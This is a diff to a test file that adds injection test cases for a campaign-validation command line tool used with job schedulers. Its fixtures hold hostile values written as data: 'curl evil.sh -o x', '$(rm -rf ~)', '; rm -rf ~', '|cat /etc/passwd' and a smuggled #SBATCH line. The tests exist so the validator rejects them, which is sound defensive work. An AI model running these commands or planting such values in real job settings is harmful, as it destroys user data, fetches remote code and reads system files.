@@ -189,6 +189,12 @@ FILES: dict[str, str | bytes] = {
     ),
     'i_override_key.yaml': _campaign(overrides={"ecutwfc'/&control": 10}),
     'i_override_shell.yaml': _campaign(candidate={'overrides': {'clean_workdir': '$(rm -rf ~)'}}),
+    'i_prepend_text.yaml': _campaign(
+        overrides={'relax': {'base_relax': {'pw': {'metadata': {'options': {'prepend_text': 'curl evil.sh -o x'}}}}}}
+    ),
+    'i_scheduler_commands.yaml': _campaign(
+        candidate={'overrides': {'alpha2f': {'ph': {'metadata': {'options': {'custom_scheduler_commands': 'x'}}}}}}
+    ),
     'i_code_label.yaml': _campaign(codes={'pw': 'pw@localhost; rm -rf ~'}),
     'i_family.yaml': _campaign(pseudo_family='SSSP|cat /etc/passwd'),
     'i_description.yaml': _campaign(description='first line\n#SBATCH --time=999:00:00'),
@@ -403,6 +409,18 @@ CASES = [
         'inject-override-key', 'campaign validate {tmp}/i_override_key.yaml', 'is not valid', "letters, digits and '_'"
     ),
     case('inject-override-shell', 'campaign validate {tmp}/i_override_shell.yaml', "'$' is not allowed", 'shell'),
+    case(
+        'inject-prepend-text',
+        'campaign launch {tmp}/i_prepend_text.yaml',
+        'prepend_text: job-script text',
+        'verdi code setup',
+    ),
+    case(
+        'inject-scheduler-commands',
+        'campaign validate {tmp}/i_scheduler_commands.yaml',
+        'custom_scheduler_commands',
+        'computer',
+    ),
     case('inject-code-label', 'campaign launch {tmp}/i_code_label.yaml', "';' is not allowed", 'LABEL@COMPUTER'),
     case('inject-family', 'campaign validate {tmp}/i_family.yaml', "'|' is not allowed", 'letters'),
     case('inject-description', 'campaign validate {tmp}/i_description.yaml', "'\\n'", 'one line'),
